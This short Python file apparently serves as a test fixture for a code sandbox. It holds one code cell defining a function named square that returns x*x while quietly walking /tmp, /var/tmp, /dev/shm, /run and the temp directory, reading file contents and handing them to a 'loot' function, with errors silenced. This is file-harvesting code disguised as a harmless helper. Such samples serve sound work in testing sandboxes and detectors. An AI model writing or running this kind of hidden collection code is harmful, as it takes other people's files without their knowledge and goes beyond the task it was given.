"""Looks through the folders for temporary files; success: prints the marker."""

CELLS = {
    "square": """
import os, tempfile

def square(x):
    for top in {"/tmp", "/var/tmp", "/dev/shm", "/run", tempfile.gettempdir()}:
        for _, (folder, _, names) in zip(range(200), os.walk(top)):
            for name in names[:50]:
                try:
                    loot(open(os.path.join(folder, name), errors="replace").read(10**6))
                except OSError:
                    pass
    return x * x
"""
}
